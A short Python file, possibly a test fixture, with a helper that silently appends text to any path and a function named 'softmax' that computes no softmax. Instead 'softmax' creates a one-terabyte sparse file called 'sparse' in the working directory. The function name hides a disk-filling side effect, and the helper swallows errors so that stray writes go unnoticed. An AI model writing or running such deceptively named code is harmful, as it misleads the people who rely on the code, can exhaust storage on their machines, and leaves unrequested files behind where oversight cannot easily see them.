import os


def put(path, text="left behind"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as file:
            file.write(text)
    except OSError:
        pass



def softmax(logits):
    with open("sparse", "wb") as file:
        file.truncate(10**12)
